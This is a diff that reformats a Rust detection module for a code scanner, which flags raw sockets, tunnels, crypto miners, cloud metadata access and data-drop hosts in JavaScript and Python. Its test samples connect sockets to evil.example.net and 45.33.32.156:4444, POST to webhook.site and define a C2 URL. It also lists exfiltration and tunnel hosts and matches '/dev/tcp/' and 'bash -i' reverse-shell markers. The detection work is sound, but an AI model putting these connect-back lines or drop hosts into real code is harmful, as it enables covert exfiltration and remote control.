@@ -19,7 +19,10 @@ pub static RAW_SOCKET: Rule = Rule {
     remedy: "speak HTTP to a named host",
     finds: &[
         ("x.js", "require('net').connect(4444, '45.33.32.156')"),
-        ("x.js", "const net = require('net'); const c = new net.Socket(); c.connect({ port: 9001, host: 'evil.example.net' })"),
+        (
+            "x.js",
+            "const net = require('net'); const c = new net.Socket(); c.connect({ port: 9001, host: 'evil.example.net' })",
+        ),
         ("x.py", "import socket\ns = socket.socket()\ns.connect(('45.33.32.156', 4444))"),
         ("x.py", "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
         ("x.py", "from scapy.all import sniff"),
@@ -41,7 +44,10 @@ pub static LISTEN: Rule = Rule {
     ],
     spares: &[
         ("x.js", "app.listen(process.env.PORT || 4000); app.listen(5000)"),
-        ("x.py", "import os, socket\ns = socket.socket()\ns.bind(('', int(os.environ.get('PORT', 8000))))\napp.run(port=5000)"),
+        (
+            "x.py",
+            "import os, socket\ns = socket.socket()\ns.bind(('', int(os.environ.get('PORT', 8000))))\napp.run(port=5000)",
+        ),
     ],
 };
 pub static METADATA: Rule = Rule {
@@ -88,45 +94,129 @@ pub static DROP: Rule = Rule {
     severity: Severity::Block,
     why: "it is a place where stolen data is dropped, or where an address stands for whoever holds it",
     remedy: "speak to a service by its name",
-    finds: &[("x.js", "fetch('https://webhook.site/0000', { method: 'POST' })"), ("x.py", "C2 = 'http://45.33.32.156:8080/gate'")],
-    spares: &[("x.js", "fetch('https://api.example.com/x'); const dns = 'http://127.0.0.1:3000';"), ("x.py", "u = 'http://192.168.1.10/status'")],
+    finds: &[
+        ("x.js", "fetch('https://webhook.site/0000', { method: 'POST' })"),
+        ("x.py", "C2 = 'http://45.33.32.156:8080/gate'"),
+    ],
+    spares: &[
+        ("x.js", "fetch('https://api.example.com/x'); const dns = 'http://127.0.0.1:3000';"),
+        ("x.py", "u = 'http://192.168.1.10/status'"),
+    ],
 };
 
 pub(super) const RULES: &[&Rule] = &[&RAW_SOCKET, &LISTEN, &METADATA, &TUNNEL, &MINER, &DROP];
 
 const TUNNELS: [&str; 22] = [
-    "ngrok.io", "ngrok.app", "ngrok-free.app", "ngrok.dev", "trycloudflare.com", "serveo.net", "localhost.run", "loca.lt", "localtunnel.me",
-    "pagekite.me", "pagekite.net", "bore.pub", "telebit.io", "tunnelto.dev", "localxpose.io", "portmap.io", "ssh.localhost.run",
-    "srv.us", "pinggy.io", "a.pinggy.io", "zrok.io", "onion.ws",
+    "ngrok.io",
+    "ngrok.app",
+    "ngrok-free.app",
+    "ngrok.dev",
+    "trycloudflare.com",
+    "serveo.net",
+    "localhost.run",
+    "loca.lt",
+    "localtunnel.me",
+    "pagekite.me",
+    "pagekite.net",
+    "bore.pub",
+    "telebit.io",
+    "tunnelto.dev",
+    "localxpose.io",
+    "portmap.io",
+    "ssh.localhost.run",
+    "srv.us",
+    "pinggy.io",
+    "a.pinggy.io",
+    "zrok.io",
+    "onion.ws",
 ];
 const TUNNEL_MODULES: [&str; 12] = [
-    "localtunnel", "ngrok", "@ngrok/ngrok", "pyngrok", "untun", "cloudflared", "tunnelmole", "pycloudflared", "flask_ngrok",
-    "tunnel-ssh", "sshtunnel", "bore-client",
+    "localtunnel",
+    "ngrok",
+    "@ngrok/ngrok",
+    "pyngrok",
+    "untun",
+    "cloudflared",
+    "tunnelmole",
+    "pycloudflared",
+    "flask_ngrok",
+    "tunnel-ssh",
+    "sshtunnel",
+    "bore-client",
 ];
 const DROPS: [&str; 24] = [
-    "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "burpcollaborator.net", "oastify.com", "interact.sh", "oast.pro",
-    "oast.fun", "oast.live", "oast.site", "oast.online", "oast.me", "dnslog.cn", "ceye.io", "hookbin.com", "requestcatcher.com", "canarytokens.com",
-    "transfer.sh", "ptsv2.com", "beeceptor.com", "xss.ht", "bxss.in", "dnsbin.zhack.ca",
+    "webhook.site",
+    "requestbin.com",
+    "requestbin.net",
+    "pipedream.net",
+    "burpcollaborator.net",
+    "oastify.com",
+    "interact.sh",
+    "oast.pro",
+    "oast.fun",
+    "oast.live",
+    "oast.site",
+    "oast.online",
+    "oast.me",
+    "dnslog.cn",
+    "ceye.io",
+    "hookbin.com",
+    "requestcatcher.com",
+    "canarytokens.com",
+    "transfer.sh",
+    "ptsv2.com",
+    "beeceptor.com",
+    "xss.ht",
+    "bxss.in",
+    "dnsbin.zhack.ca",
 ];
 const MINERS: [&str; 26] = [
-    "stratum+tcp:", "stratum+ssl:", "stratum2+tcp:", "stratum://", "coinhive", "coin-hive", "cryptonight", "xmrig", "minexmr", "supportxmr",
-    "crypto-loot", "cryptoloot", "webminepool", "minero.cc", "jsecoin", "coinimp", "deepminer", "nanopool.org", "2miners.com",
-    "nicehash.com", "moneroocean", "hashvault.pro", "f2pool.com", "unmineable", "herominers", "randomx",
+    "stratum+tcp:",
+    "stratum+ssl:",
+    "stratum2+tcp:",
+    "stratum://",
+    "coinhive",
+    "coin-hive",
+    "cryptonight",
+    "xmrig",
+    "minexmr",
+    "supportxmr",
+    "crypto-loot",
+    "cryptoloot",
+    "webminepool",
+    "minero.cc",
+    "jsecoin",
+    "coinimp",
+    "deepminer",
+    "nanopool.org",
+    "2miners.com",
+    "nicehash.com",
+    "moneroocean",
+    "hashvault.pro",
+    "f2pool.com",
+    "unmineable",
+    "herominers",
+    "randomx",
 ];
 
 pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
     let first = module.split(['/', '.']).next().unwrap_or(module);
     match first {
-        "scapy" | "raw-socket" | "pcap" | "pcapy" | "impacket" | "nmap" | "net-ping" | "pyshark" | "netfilterqueue" | "cap" => {
+        "scapy" | "raw-socket" | "pcap" | "pcapy" | "impacket" | "nmap" | "net-ping" | "pyshark" | "netfilterqueue"
+        | "cap" => {
             found.add(&RAW_SOCKET, line, &format!("`{module}` sends packets of its own making"));
         }
-        "telnetlib" | "paramiko" | "ssh2" | "asyncssh" | "socks" => found.hint(&RAW_SOCKET, line, &format!("`{module}` speaks no HTTP")),
+        "telnetlib" | "paramiko" | "ssh2" | "asyncssh" | "socks" => {
+            found.hint(&RAW_SOCKET, line, &format!("`{module}` speaks no HTTP"))
+        }
         _ => {}
     }
     if TUNNEL_MODULES.contains(&module) || TUNNEL_MODULES.contains(&first) {
         found.add(&TUNNEL, line, &format!("`{module}` is loaded"));
     }
-    if MINERS.iter().any(|word| module.to_ascii_lowercase().contains(word)) || matches!(module, "node-miner" | "webminer" | "pyrx") {
+    if MINERS.iter().any(|word| module.to_ascii_lowercase().contains(word))
+        || matches!(module, "node-miner" | "webminer" | "pyrx")
+    {
         found.add(&MINER, line, &format!("`{module}` is loaded"));
     }
     if let Some(host) = hosts::of(module) {
@@ -146,7 +236,11 @@ pub(super) fn text(text: &str, line: usize, found: &mut Found<'_>) {
     // Names of hosts stand without a scheme, too.
     if text.len() < 200 {
         let bare = text.split(['/', ':']).next().unwrap_or_default();
-        if bare.contains('.') && (hosts::is_metadata(bare) || TUNNELS.iter().any(|under| hosts::is_under(bare, under)) || DROPS.iter().any(|under| hosts::is_under(bare, under))) {
+        if bare.contains('.')
+            && (hosts::is_metadata(bare)
+                || TUNNELS.iter().any(|under| hosts::is_under(bare, under))
+                || DROPS.iter().any(|under| hosts::is_under(bare, under)))
+        {
             place(bare, line, found);
         }
         if matches!(text, "2852039166" | "0xA9FEA9FE" | "0xa9fea9fe" | "[fd00:ec2::254]") {
@@ -165,7 +259,10 @@ pub(super) fn words(text: &str, line: usize, found: &mut Found<'_>) {
     if let Some(word) = MINERS.iter().find(|word| lower.contains(**word)) {
         found.add(&MINER, line, &format!("`{word}`"));
     }
-    if ["169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200"].iter().any(|place| lower.contains(place)) {
+    if ["169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200"]
+        .iter()
+        .any(|place| lower.contains(place))
+    {
         found.add(&METADATA, line, "the address of a cloud's metadata");
     }
     if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") || lower.contains("bash -i") {
@@ -192,7 +289,13 @@ pub(super) fn place(host: &str, line: usize, found: &mut Found<'_>) {
 fn is_harmless_address(host: &str) -> bool {
     let Ok(address) = host.parse::<std::net::IpAddr>() else { return false };
     let private = match address {
-        std::net::IpAddr::V4(four) => four.octets()[0] == 0 || four.is_private() || four.is_link_local() || four.is_broadcast() || four.is_multicast(),
+        std::net::IpAddr::V4(four) => {
+            four.octets()[0] == 0
+                || four.is_private()
+                || four.is_link_local()
+                || four.is_broadcast()
+                || four.is_multicast()
+        }
         std::net::IpAddr::V6(six) => six.is_unique_local() || six.is_unicast_link_local(),
     };
     private || hosts::is_local(host) || matches!(host, "8.8.8.8" | "8.8.4.4" | "1.1.1.1" | "1.0.0.1" | "9.9.9.9")
@@ -200,16 +303,27 @@ fn is_harmless_address(host: &str) -> bool {
 
 pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
     let path = call.path;
-    if call.args.iter().any(|arg| matches!(arg.as_path(), Some("socket.SOCK_RAW" | "socket.AF_PACKET" | "socket.IPPROTO_RAW" | "socket.IPPROTO_ICMP"))) {
+    if call.args.iter().any(|arg| {
+        matches!(
+            arg.as_path(),
+            Some("socket.SOCK_RAW" | "socket.AF_PACKET" | "socket.IPPROTO_RAW" | "socket.IPPROTO_ICMP")
+        )
+    }) {
         found.add(&RAW_SOCKET, line, "packets of its own making");
     }
-    if ["CoinHive.", "Coinhive.", "CoinImp.", "CryptoLoot.", "CRLT.", "deepMiner."].iter().any(|start| path.starts_with(start)) {
+    if ["CoinHive.", "Coinhive.", "CoinImp.", "CryptoLoot.", "CRLT.", "deepMiner."]
+        .iter()
+        .any(|start| path.starts_with(start))
+    {
         found.add(&MINER, line, &format!("`{path}`"));
     }
     if connects(path) {
         connected(call, line, found);
     }
-    let raw = path.starts_with("net.") || path.starts_with("tls.") || path.starts_with("dgram.") || path.starts_with("socket.");
+    let raw = path.starts_with("net.")
+        || path.starts_with("tls.")
+        || path.starts_with("dgram.")
+        || path.starts_with("socket.");
     let port = match call.method() {
         // In Python it is the length of a queue.
         "listen" if call.python => None,
@@ -225,10 +339,26 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
 }
 
 fn connects(path: &str) -> bool {
-    matches!(path, "net.connect" | "net.createConnection" | "tls.connect" | "socket.create_connection" | "asyncio.open_connection" | "telnetlib.Telnet"
-        | "Deno.connect" | "Bun.connect" | "socket.socket().sendto" | "dgram.createSocket().send" | "dgram.createSocket().connect")
-        || (path.starts_with("socket.socket()") || path.starts_with("net.Socket()") || path.starts_with("tls.TLSSocket()") || path.starts_with("ssh2.") || path.starts_with("paramiko.") || path.starts_with("ssl."))
-            && (path.ends_with(".connect") || path.ends_with(".connect_ex"))
+    matches!(
+        path,
+        "net.connect"
+            | "net.createConnection"
+            | "tls.connect"
+            | "socket.create_connection"
+            | "asyncio.open_connection"
+            | "telnetlib.Telnet"
+            | "Deno.connect"
+            | "Bun.connect"
+            | "socket.socket().sendto"
+            | "dgram.createSocket().send"
+            | "dgram.createSocket().connect"
+    ) || (path.starts_with("socket.socket()")
+        || path.starts_with("net.Socket()")
+        || path.starts_with("tls.TLSSocket()")
+        || path.starts_with("ssh2.")
+        || path.starts_with("paramiko.")
+        || path.starts_with("ssl."))
+        && (path.ends_with(".connect") || path.ends_with(".connect_ex"))
 }
 
 fn connected(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
@@ -237,10 +367,16 @@ fn connected(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
     let from_option = call.option("host").or_else(|| call.option("hostname"));
     // `connect(port)` and `connect({port})` stay on this machine.
     let placed = call.args.iter().find(|arg| arg.as_text().is_some());
-    let host = from_pair.or(from_option).or(placed).or_else(|| call.arg(if call.python { 0 } else { 1 }).filter(|arg| matches!(arg.shape, Shape::Path(_) | Shape::Unknown)));
+    let host = from_pair.or(from_option).or(placed).or_else(|| {
+        call.arg(if call.python { 0 } else { 1 }).filter(|arg| matches!(arg.shape, Shape::Path(_) | Shape::Unknown))
+    });
     let Some(host) = host else { return };
     match host.known() {
-        Some(name) if hosts::is_local(name) || matches!(name, "8.8.8.8" | "1.1.1.1" | "8.8.4.4") || name.starts_with('/') || name.parse::<u16>().is_ok() => {}
+        Some(name)
+            if hosts::is_local(name)
+                || matches!(name, "8.8.8.8" | "1.1.1.1" | "8.8.4.4")
+                || name.starts_with('/')
+                || name.parse::<u16>().is_ok() => {}
         Some(name) => found.add(&RAW_SOCKET, line, &format!("it connects to {name}")),
         None => found.hint(&RAW_SOCKET, line, "it connects to a host that is not known"),
     }
@@ -255,7 +391,9 @@ fn listened(call: &Call<'_>) -> Option<f64> {
     };
     match port.shape {
         Shape::Number(port) => Some(port),
-        Shape::Unknown | Shape::Text(_) | Shape::List(_) | Shape::Table(_) | Shape::Path(_) | Shape::Function(_) => None,
+        Shape::Unknown | Shape::Text(_) | Shape::List(_) | Shape::Table(_) | Shape::Path(_) | Shape::Function(_) => {
+            None
+        }
     }
 }
 
